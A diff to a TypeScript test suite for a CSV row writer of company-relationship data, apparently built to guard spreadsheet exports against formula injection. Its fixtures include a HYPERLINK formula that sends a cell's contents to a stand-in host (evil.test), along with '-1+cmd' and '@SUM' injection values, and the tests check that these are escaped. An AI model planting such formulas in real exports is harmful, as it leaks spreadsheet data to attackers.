@@ -27,6 +27,8 @@ describe('TierviewLines', () => {
   const root = company('root', 0, { company_legal_name: 'Root, "Legal" Inc.' });
   const near = company('near', 1, { name: 'Near\r\nLines', cid_id: 'K1' });
   const far = company('far', 2, { company_legal_name: '  ', name: 'Ünïcödé 株式会社' });
+  const shared = Object.freeze(['8471', '=8542']);
+  const sharedTypes = Object.freeze(['customs, filed', 'news']);
   const cases: TierRelationship[] = [
     rel(near, root),
     rel(far, near, {
@@ -45,16 +47,24 @@ describe('TierviewLines', () => {
     }),
     // The same companies again: their encoded fields are reused.
     rel(near, root, { edge_id: 'e-again', confidence_score: 1e-7 }),
+    // Lists a store shares between rows (frozen) are encoded once, and still quoted as they must be.
+    rel(far, root, { hs_codes: shared, evidence_types: sharedTypes }),
+    rel(near, root, { hs_codes: shared, evidence_types: sharedTypes, edge_id: 'é-non-ascii' }),
   ];
+
+  const line = (lines: TierviewLines, r: TierRelationship) => lines.rows([r]).toString('utf8');
 
   it('writes each row as the generic record writer does, column for column', () => {
     const lines = new TierviewLines(root);
-    for (const r of cases) expect(lines.line(r)).toBe(csvRecord(TIERVIEW_COLUMNS, tierviewRecord(root, r)));
+    for (const r of cases) expect(line(lines, r)).toBe(csvRecord(TIERVIEW_COLUMNS, tierviewRecord(root, r)));
+    // A batch is its rows one after the other.
+    expect(new TierviewLines(root).rows(cases).toString('utf8')).toBe(
+      cases.map((r) => csvRecord(TIERVIEW_COLUMNS, tierviewRecord(root, r))).join(''),
+    );
   });
 
   it('quotes what needs quoting and puts the nearer company in the customer columns', () => {
-    const line = new TierviewLines(root).line(cases[1]!);
-    expect(line).toBe(
+    expect(line(new TierviewLines(root), cases[1]!)).toBe(
       '"Root, ""Legal"" Inc.",root,1,"Near\r\nLines",near,K1,2,Ünïcödé 株式会社,far,far,e-far-near,far~K1,,8471|8542,,,\r\n',
     );
   });
@@ -66,12 +76,12 @@ describe('TierviewLines', () => {
     });
     const sheet = new TierviewLines(root, true);
     for (const r of [...cases, rel(hostile, root, { edge_id: '@SUM(1+1)' })])
-      expect(sheet.line(r)).toBe(csvRecord(TIERVIEW_COLUMNS, tierviewRecord(root, r), true));
-    const line = sheet.line(rel(hostile, root, { edge_id: '-1+cmd' }));
-    expect(line).toContain(`,"'=HYPERLINK(""https://evil.test/?x=""&A2,""Open"")",evil,K9,`);
-    expect(line).toContain(",'-1+cmd,");
+      expect(line(sheet, r)).toBe(csvRecord(TIERVIEW_COLUMNS, tierviewRecord(root, r), true));
+    const row = line(sheet, rel(hostile, root, { edge_id: '-1+cmd' }));
+    expect(row).toContain(`,"'=HYPERLINK(""https://evil.test/?x=""&A2,""Open"")",evil,K9,`);
+    expect(row).toContain(",'-1+cmd,");
     // Numbers stay numbers; for other programs, text stays as it is.
-    expect(line).toContain(',0.5,');
-    expect(new TierviewLines(root).line(rel(hostile, root))).toContain(',"=HYPERLINK(');
+    expect(row).toContain(',0.5,');
+    expect(line(new TierviewLines(root), rel(hostile, root))).toContain(',"=HYPERLINK(');
   });
 });
